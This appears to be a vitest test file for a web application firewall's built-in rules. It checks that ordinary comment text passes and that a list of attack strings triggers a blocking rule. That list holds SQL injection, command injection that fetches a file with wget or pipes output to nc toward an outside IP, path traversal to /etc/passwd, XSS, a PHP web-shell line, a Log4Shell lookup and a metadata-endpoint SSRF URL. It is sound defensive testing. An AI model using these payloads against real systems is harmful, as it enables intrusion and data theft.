import { expect, test } from "vitest";
import { createWaf } from "@cuirass/engine";
import { createNodeHost } from "./host.ts";
import { builtInRuleSet, ruleSetFileSystem, ruleSetSources } from "./rule-sets.ts";

/**
 * What a user meets first where no CRS is installed. The figures over the CRS's own tests are those of
 * `npm run conformance -- --suite built-in`; here are texts that neither those tests nor the benchmark's workload hold.
 */
const waf = createWaf({
  directives: ruleSetSources(builtInRuleSet, { mode: "block" }),
  host: createNodeHost({ fileSystem: ruleSetFileSystem(builtInRuleSet) }),
});

/** Ids of the rules that spoke up about a form field with this text. */
function alarms(text: string): number[] {
  const body = `text=${encodeURIComponent(text)}`;
  const tx = waf.newTransaction();
  void tx.processRequest({
    method: "POST",
    uri: "/comments",
    headers: [
      ["Host", "www.example.com"],
      ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"],
      ["Content-Type", "application/x-www-form-urlencoded"],
      ["Content-Length", String(body.length)],
    ],
    body,
  });
  void tx.processLogging();
  tx.close();
  return tx.matchedRules.filter(({ log }) => log).map(({ rule }) => rule.id);
}

test.each([
  "Select your union from the list",
  "select a table from the garden, where 1 or 2",
  "Please update my address and set the delivery to Monday; thanks!",
  "I'd like to insert a coin into the machine and delete the old entry from my account",
  "Can you create a user for me or alter the table reservation?",
  "We grant access to all who merge the files using tools",
  "O'Neill and sons; don't, won't, can't",
  "Mr. & Mrs. Smith-Jones' house -- number 12",
  "Rock 'n' roll; who knows why, time flies & more",
  'It has "name" and "attributes", or is "safe" and does not throw',
  "Use `npm install`, `tar czf x.tgz` and `git status`",
  "for each item, if it is available then do send it",
  "The system (version 2) is up; if (something) happens, call me",
  "Hi {name}, your order #{id} is ready: ${price} per unit, {{total}} in all",
  "see [the manual](https://www.example.com/help) and [1](https://www.example.com/notes)",
  "C:\\Users\\me\\Documents\\report.docx or /home/me/report.docx",
  "Java is an island; java.util is a package; JavaScript is a language",
  "<p>Hello <b>bold</b> <a href='https://www.example.com/'>world</a></p>",
  "зимняя куртка мужская непромокаемая",
  "東京で美味しいラーメンを食べたい",
  "Café crème à la carte – 12,50 €",
])("ordinary text is let through: %s", (text) => {
  expect(alarms(text)).toEqual([]);
});

test.each([
  "1' or '1'='1",
  "1 union all select user, password from users",
  "'; drop table users; --",
  "1 and sleep(5)",
  "; wget http://203.0.113.5/x -O /tmp/x",
  "$(curl 203.0.113.5)",
  "w'h'oami | nc 203.0.113.5 80",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "<?php system($_GET[0]); ?>",
  "{{7*7}}",
  "${jndi:ldap://203.0.113.5/a}",
  "http://169.254.169.254/latest/meta-data/",
  "require('child_process').exec('id')",
])("an attack is blocked: %s", (text) => {
  expect(alarms(text)).toContain(149_001);
});
